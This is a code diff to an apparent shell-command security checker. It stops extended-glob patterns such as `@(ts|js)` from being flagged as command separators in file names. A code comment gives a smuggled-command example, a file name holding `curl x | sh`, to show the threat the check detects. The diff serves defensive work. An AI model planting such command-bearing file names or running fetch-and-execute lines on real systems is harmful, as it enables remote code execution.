@@ -100,6 +100,8 @@ def maybe_environ(text: str) -> bool:
 
 _COMMAND_IN_NAME = lazy_re(r"[;|`\n]|\$\(|&&")
 """Command separators and substitutions: in a file name, a command line waiting for an unquoted reader."""
+_EXTGLOB_GROUP = lazy_re(r"[@+*?!]\([^()`$;&\n]*\)")
+"""A pattern list of an extended glob (`**/*.@(ts|js)`): its `|` separates patterns, not commands."""
 _PATH_MAX = 4096
 """Longer file names cannot be created (Linux's PATH_MAX; a name's own part may hold 255 bytes): no name
 that long waits for a reader."""
@@ -543,7 +545,12 @@ class WordChecks:
         text = target.text
         # `touch "a; curl x | sh; b"`: a job that later loops over `*` into `sh -c "… $f"` or `eval` runs
         # the name. A name that reads as a command line is checked as one; others are just names.
-        if names_file and len(text) <= _PATH_MAX and DYN not in text and _COMMAND_IN_NAME.search(text):
+        if (
+            names_file
+            and len(text) <= _PATH_MAX
+            and DYN not in text
+            and _COMMAND_IN_NAME.search(_EXTGLOB_GROUP.sub("", text))
+        ):
             self._spend(NAME_SCRIPT_WORK)  # type: ignore[attr-defined]
             if not _parse_posix.parse(text.encode("utf-8", "replace")).root_node.has_error:
                 self.script(text, "posix", frame.nested(f"the file name `{target.raw}`"))  # type: ignore[attr-defined]
